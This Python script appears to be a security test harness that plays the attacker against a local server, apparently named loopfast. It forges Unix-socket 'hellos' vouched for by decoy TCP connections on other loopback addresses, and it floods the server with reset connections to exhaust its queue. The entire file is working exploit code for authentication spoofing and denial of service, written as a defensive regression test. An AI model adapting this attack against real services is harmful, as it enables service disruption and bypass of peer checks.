"""Hellos vouched for by a decoy (run as the attacker). The server listens on
127.0.0.1:SPORT; the attacker listens on SPORT at other loopback addresses
(127.0.0.2 and up, which a server bound to 127.0.0.1 leaves free) and never
accepts there. Each of its hellos names a TCP connection of its own to one
of those decoys: the kernel finds that connection, owned by the hello's
sender, so a server that checks only "does a connection from this endpoint
to the named server end exist, owned by the sender" vouches for a hello
that names no connection to it at all. Every ROUND seconds for FILL
seconds it queues BATCH more hellos on the server's rendezvous (kept open,
nothing written), and makes RATE plain connections a second to the server
with MSS 89 in their SYN (loopfast's "hello queued" mark: each accept
takes the rendezvous to the stash and checks the stash's oldest hello),
each reset at once. Prints "queued N" after the first batch, "held K"
once a second (the hellos the server still holds: open, not closed by
it), and after FILL seconds "filled K"; then only "held K" until stdin
closes, and a JSON line: queued, held, flood connections made.
--v6: the decoy is [::1]:SPORT (IPV6_V6ONLY), which a server bound to
0.0.0.0 leaves free, and the hellos name connections to it."""
import argparse
import json
import os
import resource
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lfsec import client_name, reap_flood, rendezvous  # noqa: E402

ap = argparse.ArgumentParser()
ap.add_argument("sport", type=int)
ap.add_argument("ino", type=int)
ap.add_argument("--batch", type=int, default=1100)
ap.add_argument("--round", type=float, default=2.5)
ap.add_argument("--fill", type=float, default=15)
ap.add_argument("--rate", type=int, default=500)
ap.add_argument("--decoys", type=int, default=4)
ap.add_argument("--v6", action="store_true")
a = ap.parse_args()

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

if a.v6:
    a.decoys = 1
decoys = []
for i in range(a.decoys):
    d = socket.socket(socket.AF_INET6 if a.v6 else socket.AF_INET)
    if a.v6:
        d.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    d.bind(("::1" if a.v6 else "127.0.0.%d" % (2 + i), a.sport))
    d.listen(4096)
    decoys.append(d)

hellos, conns, nonce = [], [], 0


def park(n):
    """n hellos, each naming a connection of ours to a decoy."""
    global nonce
    for _ in range(n):
        daddr = "::1" if a.v6 else "127.0.0.%d" % (2 + nonce % a.decoys)
        t = socket.socket(socket.AF_INET6 if a.v6 else socket.AF_INET)
        t.bind((daddr if a.v6 else "127.0.0.1", 0))
        t.settimeout(0.5)
        try:
            t.connect((daddr, a.sport))
        except OSError:  # a decoy's queue is full
            t.close()
            break
        nonce += 1
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        u.bind(client_name("6", t.getsockname()[1], a.sport, nonce) if a.v6 else
               client_name("4", t.getsockname()[1], a.sport, nonce, saddr=daddr))
        u.setblocking(False)
        try:
            u.connect(rendezvous("4", a.ino))
        except OSError:  # the rendezvous is full
            u.close()
            t.close()
            continue
        hellos.append(u)
        conns.append(t)


def held():
    p = select.poll()
    for u in hellos:
        p.register(u, select.POLLIN)
    return len(hellos) - len(p.poll(0))  # readable: its server end closed it


park(a.batch)
print("queued", len(hellos), flush=True)
start = parked_at = last = time.monotonic()
made, flood, pending, filled = 0, 0, {}, False
while not select.select([sys.stdin], [], [], 0)[0]:
    now = time.monotonic()
    if now - last >= 1:
        last = now
        print("held", held(), flush=True)
    if now - start >= a.fill:
        if not filled:
            filled = True
            for t in pending.values():
                t.close()
            pending.clear()
            print("filled", held(), flush=True)
        time.sleep(0.05)
        continue
    if now - parked_at >= a.round:
        parked_at = now
        park(a.batch)
    flood += reap_flood(pending)
    if made >= (now - start) * a.rate or len(pending) >= 256:
        time.sleep(0.001)
        continue
    made += 1
    t = socket.socket()
    t.setblocking(False)
    t.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 89)
    try:
        t.connect(("127.0.0.1", a.sport))
    except BlockingIOError:
        pending[t.fileno()] = t
    except OSError:
        t.close()
print(json.dumps({"queued": len(hellos), "held": held(), "flood": flood}), flush=True)
